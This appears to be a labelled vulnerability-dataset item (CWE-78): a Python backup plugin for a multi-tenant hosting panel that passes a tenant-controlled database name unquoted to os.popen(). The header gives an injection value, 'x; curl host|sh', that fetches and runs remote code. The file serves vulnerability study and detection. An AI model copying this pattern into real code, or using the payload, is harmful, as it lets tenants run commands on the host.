# ---
# id: cwe78-r2-tenant-backup-plugin-v
# cwe: CWE-78
# vulnerable: true
# twin: none
# tags: os, yaml, plugins
# explanation: A backup plugin for a multi-tenant hosting panel reads each tenant's settings file (editable by the tenant through the panel) and dumps the tenant database with os.popen(). The database name from the tenant's settings is placed unquoted in a shell pipeline, so a tenant can set it to 'x; curl host|sh' and run commands as the backup user on the host.
# ---
import datetime as dt
import logging
import os
from pathlib import Path

import yaml

from panel.plugins import BackupPlugin, register

log = logging.getLogger("panel.backup.postgres")

BACKUP_ROOT = Path("/var/backups/tenants")
RETENTION_DAYS = 14


def load_settings(tenant_dir: Path) -> dict:
    with open(tenant_dir / "settings.yml", encoding="utf-8") as fh:
        data = yaml.safe_load(fh) or {}
    db = data.get("database", {})
    return {"name": str(db.get("name", "")), "host": str(db.get("host", "localhost")), "enabled": bool(db)}


def prune(target_dir: Path) -> int:
    cutoff = dt.datetime.now() - dt.timedelta(days=RETENTION_DAYS)
    removed = 0
    for item in target_dir.glob("*.sql.gz"):
        if dt.datetime.fromtimestamp(item.stat().st_mtime) < cutoff:
            item.unlink()
            removed += 1
    return removed


@register("postgres")
class PostgresBackup(BackupPlugin):
    def run(self, tenant_id: str, tenant_dir: Path) -> Path:
        settings = load_settings(tenant_dir)
        if not settings["enabled"]:
            log.info("tenant %s has no database configured", tenant_id)
            return None
        target_dir = BACKUP_ROOT / tenant_id
        target_dir.mkdir(parents=True, exist_ok=True)
        target = target_dir / f"{dt.date.today():%Y%m%d}.sql.gz"
        pipe = os.popen(f"pg_dump -h localhost {settings['name']} | gzip > {target}; echo $?")  #@vuln
        status = pipe.read().strip()
        pipe.close()
        if status != "0":
            log.error("pg_dump for tenant %s exited with %s", tenant_id, status)
            raise RuntimeError(f"backup failed for {tenant_id}")
        log.info("tenant %s: %s written, %d old dumps pruned", tenant_id, target.name, prune(target_dir))
        return target
